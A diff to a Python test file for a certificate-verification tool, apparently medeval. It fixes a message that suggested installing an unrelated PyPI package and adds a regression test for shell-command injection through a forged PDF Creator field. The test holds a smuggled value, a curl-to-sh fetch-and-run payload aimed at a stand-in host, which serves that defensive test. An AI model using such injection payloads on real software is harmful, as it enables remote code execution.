@@ -166,5 +166,34 @@ def test_a_certificate_of_another_version_is_said_so(certified: Path, info_file:
         f"certificate {old}: rendered by medeval 0.0.1; this is medeval {__version__}, which "
         "lays a "
         "certificate out otherwise, so its bytes cannot be compared: verify it with the "
-        "version that made it (pip install 'medeval==0.0.1'). Its printed text was compared "
-        "with the result instead",)
+        "version that made it (medeval 0.0.1, installed from its source: 'medeval' on PyPI "
+        "is another project). Its printed text was compared with the result instead",)
+    # the verification page's Korean names both versions, and no pip command fetching
+    # PyPI's 'medeval' (another project; the message said 'pip install medeval==0.0.1')
+    from medeval.web.differences_ko import difference_ko
+
+    korean = difference_ko(outcome.problems[0])
+    assert "medeval 0.0.1에서 만든 성적서" in korean and "pip" not in korean
+
+
+def test_a_creator_that_is_no_version_is_not_offered_as_one(
+        certified: Path, info_file: Path, tmp_path: Path,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    # Found in the review-lead pass: any /Creator starting 'medeval ' was named as the
+    # version to install, inside a shell command: a forged certificate whose Creator is
+    # "medeval 1'; curl ...; echo '" had the tester told to run
+    # pip install 'medeval==1'; curl ...; echo ''. A Creator that is no version's name is
+    # now judged as any other difference of bytes.
+    import medeval.report.pdf as pdf_module
+    from medeval.report import render_certificate
+
+    odd = "1'; curl example.invalid | sh; echo '"
+    monkeypatch.setattr(pdf_module, "__version__", odd)
+    forged = render_certificate(certified, tmp_path / "forged.pdf", report_info=info_file)
+    monkeypatch.undo()
+    outcome = verify_certificate(certified, forged, report_info=info_file)
+    assert not outcome.ok
+    assert len(outcome.problems) == 1 and "curl" not in outcome.problems[0]
+    assert outcome.problems[0].startswith(
+        f"certificate {forged}: its bytes differ from the certificate rendered from the "
+        "result at byte ")
